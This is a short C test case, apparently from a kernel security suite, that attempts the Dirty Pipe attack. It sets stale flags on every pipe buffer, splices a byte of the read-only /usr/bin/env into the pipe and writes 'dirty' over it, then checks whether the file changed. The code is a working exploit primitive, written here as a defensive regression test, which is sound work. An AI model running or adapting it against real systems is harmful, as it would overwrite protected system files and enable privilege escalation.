// case: A21
// attack: writes into a pipe after a page of a read-only file was put there (Dirty Pipe)
// expect: held
// outside: untried: only a kernel with the fault would let it through
#include "attack.h"
#include <sys/sendfile.h>
int main(void) {
    int ends[2], file = open("/usr/bin/env", O_RDONLY);
    char before[64], after[64], drained[4096];
    if (file < 0 || pipe(ends) || pread(file, before, 64, 0) != 64) return 2;
    // Every buffer of the pipe gets the flag that the fault forgot to clear.
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    for (int left = size; left > 0; left -= 4096)
        if (write(ends[1], drained, 4096) < 0) break;
    for (int left = size; left > 0; left -= 4096)
        if (read(ends[0], drained, 4096) < 0) break;
    loff_t offset = 1;
    if (syscall(SYS_splice, file, &offset, ends[1], 0, 1, 0) < 0) sendfile(ends[1], file, &offset, 1);
    if (write(ends[1], "dirty", 5) < 0) return 3;
    if (pread(file, after, 64, 0) != 64 || memcmp(before, after, 64)) through("the file changed");
    held("the file is as it was");
}
